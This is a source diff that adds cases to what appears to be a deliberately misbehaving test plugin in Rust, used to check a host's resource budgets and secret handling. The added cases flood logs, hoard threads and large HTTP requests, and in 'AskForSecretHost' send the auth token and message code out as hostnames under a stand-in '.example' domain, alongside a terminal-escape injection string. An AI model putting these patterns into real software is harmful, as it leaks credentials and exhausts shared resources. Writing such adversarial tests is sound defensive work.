@@ -5,7 +5,7 @@ use std::{
     hint,
     pin::pin,
     process,
-    task::{Context, Waker},
+    task::{Context, Poll, Waker},
     thread,
     time::Duration,
 };
@@ -119,7 +119,23 @@ pub enum Deed {
     /// Asks for an exchange that is larger than a frame.
     HugeRequest,
 
+    // Budgets.
+    /// Logs more lines than are read and dropped.
+    FloodLog,
+    /// Sends the front lines of a level that is not logged, and asks for nothing else.
+    ForgeLogs,
+    /// Begins more exchanges at a time than a message may, of which none is answered.
+    HoardExchanges,
+    /// The same, with bodies of almost two megabytes.
+    HoardBodies,
+    /// Starts more threads than a plugin has use for, and waits.
+    HoardThreads,
+    /// Delivers, and has threads compute for ever after its answer.
+    SpinAfterwards,
+
     // Secrets.
+    /// Asks for a host that is made of secrets, then delivers.
+    AskForSecretHost,
     /// Writes all secrets to standard output and standard error, then delivers.
     Print,
     /// Logs all secrets at every level, then delivers.
@@ -297,6 +313,42 @@ impl Misbehaving {
                 Err(SendError::unknown("a request that can't be carried was"))
             }
 
+            Deed::FloodLog => {
+                (0..12_800).for_each(|_| self.host.log(Level::Error, "flood"));
+                self.deliver(message).await
+            }
+            Deed::ForgeLogs => {
+                (0..12_800).for_each(|_| forge::line_below_every_level());
+                future::pending().await
+            }
+            Deed::HoardExchanges => self.hoard(10, 10).await,
+            Deed::HoardBodies => self.hoard(8, 2_000_000).await,
+            Deed::HoardThreads => {
+                (0..100).for_each(|_| {
+                    drop(thread::spawn(|| {
+                        loop {
+                            thread::park()
+                        }
+                    }))
+                });
+                future::pending().await
+            }
+            Deed::SpinAfterwards => {
+                let delivered = self.deliver(message).await;
+                (0..2).for_each(|_| drop(thread::spawn(|| spin())));
+                delivered
+            }
+
+            Deed::AskForSecretHost => {
+                let code = message.code.as_ref().map_or("", Secret::expose);
+                let token = self.settings.auth_token.expose();
+                let hosts = [code, token, message.to.digits(), "a\u{202e}b\u{1b}[2J"];
+                for host in hosts {
+                    let url = format!("https://{host}.example/");
+                    let _ = self.host.http().get(url).send().await;
+                }
+                self.deliver(message).await
+            }
             Deed::Print => {
                 flood::print_secrets(&secrets);
                 self.deliver(message).await
@@ -338,6 +390,28 @@ impl Misbehaving {
                 Err(error.with_retry_after(Some(SIX_HOURS)))
             }
         }
+    }
+
+    /// So many exchanges at a time, each with a body of so many bytes; fails as the first of them does. None of
+    /// them says that it delivers.
+    async fn hoard(&self, count: usize, bytes: usize) -> Result<Receipt, SendError> {
+        let base = self.settings.base_url.as_str();
+        let ask = |_| {
+            let request = self.host.http().post(format!("{base}/never"));
+            let request = request.read_only().body("text/plain", vec![b'x'; bytes]);
+            Box::pin(request.send())
+        };
+        let mut asked: Vec<_> = (0..count).map(ask).collect();
+        let failed = future::poll_fn(|context| {
+            let mut polled = asked.iter_mut().map(|asked| asked.as_mut().poll(context));
+            polled
+                .find_map(|polled| match polled {
+                    Poll::Ready(Err(error)) => Some(Poll::Ready(error)),
+                    _ => None,
+                })
+                .unwrap_or(Poll::Pending)
+        });
+        Err(failed.await.into())
     }
 
     fn start_threads(&self, secrets: &str) {
